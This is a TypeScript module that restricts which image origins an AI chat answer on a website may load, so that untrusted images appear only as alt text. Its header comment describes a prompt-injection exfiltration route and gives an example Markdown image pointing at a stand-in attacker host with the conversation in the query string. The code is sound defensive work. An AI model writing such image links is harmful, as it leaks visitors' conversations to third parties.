// Which images an answer may load. An image URL is a request the model chooses: a prompt-injected
// answer can put the conversation in it (`![x](https://attacker.example/?d=…)`) and the visitor's
// browser sends it on sight. So images in answers load only from the origins the site owner lists (`images: ['https://cdn.example.com']` in the preload, or
// `data-images="https://cdn.example.com …"`), and only over https; every other image is its alt
// text, with no link. Pure.

/**
 * Reads the owner's list (an array, or the attribute's text with origins between spaces or
 * commas): each entry must be an `https:` origin (no path, query or credentials).
 */
export function readImageOrigins(value: unknown, where: string, warn: (message: string) => void): string[] {
  const items = typeof value == 'string' && where.startsWith('data-') ? value.split(/[\s,]+/).filter(Boolean) : value;
  if (!Array.isArray(items)) {
    warn(`${where} must be a list of image origins such as ["https://cdn.example.com"]; no remote images will load`);
    return [];
  }
  const origins: string[] = [];
  for (const item of items) {
    const origin = typeof item == 'string' ? httpsOrigin(item) : null;
    if (origin) origins.push(origin);
    else warn(`${where}: ${JSON.stringify(item)?.slice(0, 60)} is not an https origin such as "https://cdn.example.com"; skipped`);
  }
  return [...new Set(origins)];
}

function httpsOrigin(text: string): string | null {
  try {
    const url = new URL(text);
    // An origin names a scheme, a host and a port, nothing more: a path here would suggest a
    // narrower rule than the one applied.
    if (url.protocol != 'https:' || url.username || url.password || url.search || url.hash || url.pathname != '/') return null;
    return url.origin;
  } catch {
    return null;
  }
}

/** Whether an answer may load the image at `url` (already parsed, absolute). */
export type ImagePolicy = (url: URL) => boolean;

/**
 * The owner's https origins. Not the hub's own by default: a model-written GET to the hub carries
 * the visitor's cookies for it (a request forged from a picture); files the hub itself sends as
 * attachments are another matter (attachments.ts).
 */
export function imagePolicy(origins: readonly string[]): ImagePolicy {
  const allowed = new Set(origins);
  return (url) => url.protocol == 'https:' && allowed.has(url.origin);
}
